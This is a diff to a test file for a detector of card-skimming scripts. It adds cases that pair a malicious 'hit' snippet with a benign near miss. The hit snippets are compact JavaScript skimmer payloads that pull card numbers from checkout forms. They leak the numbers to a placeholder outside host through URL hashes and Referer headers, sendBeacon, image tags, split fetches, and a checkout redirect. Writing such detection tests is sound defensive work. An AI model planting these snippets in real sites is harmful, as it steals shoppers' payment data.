@@ -154,6 +154,42 @@ const cases: [ReasonCode, ReasonWeight, hit: string, nearMiss: string][] = [
     `if(/checkout/.test(location.href))setInterval(function(){localStorage.setItem('_x',${readCard})},500)`,
     `if(/checkout/.test(location.href))localStorage.setItem('_x',document.querySelector('#newsletter-email').value)`,
   ],
+  [
+    'card-kept',
+    'strong',
+    `document.forms[0].onsubmit=function(){history.pushState({},'',location.pathname+'#'+btoa(${readCard}))}`,
+    `document.forms[0].onsubmit=function(){history.pushState({},'','?'+new URLSearchParams(new FormData(this)))}`,
+  ],
+  [
+    'card-to-stranger',
+    'hard',
+    `setInterval(function(){location.hash=${readCard};var m=document.createElement('meta');m.name='referrer';m.content='unsafe-url';document.head.append(m);fetch('${stranger}',{mode:'no-cors'})},900)`,
+    `setInterval(function(){location.hash=document.querySelector('.step').id;var m=document.createElement('meta');m.name='referrer';m.content='unsafe-url';document.head.append(m);fetch('${stranger}',{mode:'no-cors'})},900)`,
+  ],
+  [
+    'card-to-stranger',
+    'hard',
+    `document.onchange=function(){history.replaceState(0,0,'?q='+${readCard})};setTimeout(function(){navigator.sendBeacon('${stranger}',location.search)},5e3)`,
+    `document.onchange=function(){history.replaceState(0,0,'?q='+document.title)};setTimeout(function(){navigator.sendBeacon('${stranger}',location.search)},5e3)`,
+  ],
+  [
+    'fields-to-stranger',
+    'strong',
+    `document.querySelector('form#payment').addEventListener('submit',function(){history.replaceState(0,'','?'+$(this).serialize());document.body.insertAdjacentHTML('beforeend','<img referrerpolicy="no-referrer-when-downgrade" src="${stranger}">')})`,
+    `document.querySelector('form#payment').addEventListener('submit',function(){history.replaceState(0,'','?'+$(this).serialize());document.body.insertAdjacentHTML('beforeend','<img referrerpolicy="origin" src="${stranger}">')})`,
+  ],
+  [
+    'card-to-stranger',
+    'hard',
+    `var p=document.getElementById('pan');p.onblur=function(){fetch('${stranger}?a='+p.value.slice(0,8));fetch('https://other.example/?b='+p.value.slice(8))}`,
+    `var p=document.getElementById('pan-x');p.onblur=function(){fetch('${stranger}?a='+p.value)}`,
+  ],
+  [
+    'checkout-turned',
+    'strong',
+    `document.querySelector('button.action.checkout').onclick=function(e){if(document.cookie.indexOf('_seen')<0){document.cookie='_seen=1';location.assign('${stranger}');return false}}`,
+    `document.querySelector('button.action.checkout').onclick=function(e){location.assign('${stranger}');return false}`,
+  ],
 ]
 
 describe('rules', () => {
